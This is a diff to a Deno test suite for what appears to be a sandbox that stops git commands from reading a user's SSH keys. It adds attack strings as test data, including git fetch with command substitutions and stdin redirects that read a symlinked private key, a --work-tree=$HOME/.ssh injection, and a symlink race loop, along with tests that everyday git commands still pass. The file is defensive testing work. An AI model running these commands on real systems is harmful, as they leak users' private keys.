@@ -45,6 +45,19 @@ const ATTEMPTS: readonly {
     "scp k k2",
     "scp -r d e",
     "git --work-tree=$HOME/.ssh pull -q --rebase --autostash",
+    'x=k; git fetch origin "$(cat ${x})"',
+    'x=k; git fetch origin "$(< ${x})"',
+    'for x in d; do git fetch origin "$(cat $x/k)"; done',
+    'git fetch origin "$(cat ?)"',
+    'git fetch origin "$(head d*/k)"',
+    'git fetch origin "$(grep -Rh . d)"',
+    "cd d && git fetch --stdin < k",
+    "cd d || exit 1; git fetch --stdin < k",
+    "(cd d; git fetch --stdin < k) | cat",
+    "{ cd d && git fetch --stdin < k; } 2>&1 | cat",
+    "for x in d; do (cd $x && git fetch --stdin < k); done",
+    'for x in ". --work-tree=$HOME/.ssh"; do git -C $x pull -q --rebase --autostash; done',
+    "while :; do ln -sf k n; cp a.txt m; mv m n; done & sleep 1; git fetch --stdin < n",
   ].map((command) => ({
     setup: "ln -s $SSH/id_test k; mkdir d; ln -s $SSH/id_test d/k",
     flags: ["-A", "--allow-run=scp"],
@@ -70,7 +83,10 @@ for (const { setup, flags, commands } of ATTEMPTS) {
       await at.run(flags);
       const told = at.results();
       assert.equal(told.length, commands.length);
-      assert.match(told.join("\n"), /did not get the user's keys|No such file/);
+      assert.match(
+        told.join("\n"),
+        /did not get the user's keys|No such file|other code in the same/,
+      );
       assert.doesNotMatch(told.join("\n"), /plo!?ver/);
       await assert.rejects(at.place.read("k2"));
     },
@@ -98,5 +114,37 @@ Deno.test({
     await at.git("config", "core.excludesFile", ".ignored");
     await at.run(["-A"]);
     for (const result of at.results()) assert.doesNotMatch(result, /"success":false|did not get/);
+  },
+});
+
+Deno.test({
+  name: "everyday words around git leave it its keys",
+  ignore: !hasBubblewrap(),
+  async fn() {
+    const commands = [
+      "git push -q origin HEAD:$(git branch --show-current)-x",
+      'B=$(git rev-parse --abbrev-ref HEAD); git push -q origin "HEAD:$B-y"',
+      "V=$(cat version); git push -q origin HEAD:v$V",
+      "V=$(jq -r .v p.json || cat version); git push -q origin HEAD:w$V",
+      "(cd sub && git fetch -q) | cat",
+      "cd sub || exit 1; git fetch -q 2>&1 | cat",
+      "cd sub && git fetch -q",
+      "for d in sub; do git -C $d fetch -q; done",
+      "for d in sub; do (cd $d && git fetch -q && ls); done",
+      "[[ -n $CI && $(git branch --show-current) == x ]] || git fetch -q",
+      "for i in 1 2; do git fetch -q && break; sleep 1; done",
+      "git fetch -q && git log --oneline HEAD..origin/main | head",
+      "for b in $(git branch --show-current | cut -c1-); do git push -q origin HEAD:$b-z; done",
+      "git fetch -q origin 'refs/heads/*:refs/remotes/o/*'",
+    ];
+    await using at = await withThief(commands);
+    await Deno.mkdir(join(at.place.dir, "sub"));
+    await at.place.write("version", "1\n");
+    await at.run(["-A"]);
+    const results = at.results();
+    assert.equal(results.length, commands.length);
+    for (const [index, result] of results.entries()) {
+      assert.doesNotMatch(result, /"success":false|did not get/, commands[index]);
+    }
   },
 });
